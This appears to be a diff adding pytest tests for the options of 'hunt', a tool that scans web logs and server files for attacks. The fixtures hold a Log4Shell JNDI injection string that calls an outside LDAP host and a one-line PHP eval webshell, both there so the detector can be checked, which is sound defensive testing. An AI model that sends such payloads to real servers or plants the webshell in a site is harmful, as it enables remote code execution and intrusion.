@@ -1,0 +1,55 @@
+"""Options of `hunt`; what it finds in real logs is tried in ``tests/end_to_end``."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.cli.conftest import Run
+
+ACCESS = '192.0.2.9 - - [02/Mar/2026:06:00:00 +0700] "GET /?q=${jndi:ldap://203.0.113.1/a} HTTP/1.1" 400 9 "-" "-"\n'
+
+
+@pytest.fixture
+def log(tmp_path: Path) -> Path:
+    path = tmp_path / "access.log"
+    path.write_text(ACCESS)
+    return path
+
+
+def test_a_table_for_people_and_what_was_gone_through(run: Run, log: Path) -> None:
+    done = run("hunt", log)
+    assert done.code == 0
+    assert "Log4Shell" in done.out
+    assert "1 lines of 1 files" in done.err
+
+
+def test_a_level_can_be_asked_for(run: Run, log: Path) -> None:
+    assert run("hunt", "--json", "--min-level", "critical", log).out == ""
+    assert run("hunt", "--json", "--min-level", "high", log).out
+
+
+def test_without_any_rule_it_says_what_to_do(run: Run, log: Path, tmp_path: Path) -> None:
+    (tmp_path / "none").mkdir()
+    done = run("hunt", "--no-builtin", "--rules", tmp_path / "none", log)
+    assert done.code == 2
+    assert "rules" in done.err
+
+
+def test_files_that_are_no_logs_are_scanned(run: Run, tmp_path: Path) -> None:
+    """A webshell among the files of a web server is found by YARA, by its place and its hash."""
+    www = tmp_path / "www"
+    www.mkdir()
+    (www / "index.html").write_text("<h1>Cổng thông tin</h1>\n")
+    (www / "x.php").write_text("<?php @eval(base64_decode($_POST['c'])); ?>\n")
+    found = [json.loads(line) for line in run("hunt", "--json", www).out.splitlines()]
+    assert found
+    assert {entity for alert in found for entity in alert["entities"]["file"]} == {str(www / "x.php")}
+    assert all(len(alert["entities"]["hash"][0]) == 64 for alert in found)
+
+
+def test_a_folder_that_does_not_hold_anything(run: Run, tmp_path: Path) -> None:
+    (tmp_path / "empty").mkdir()
+    done = run("hunt", tmp_path / "empty")
+    assert done.code == 2
+    assert "empty" in done.err
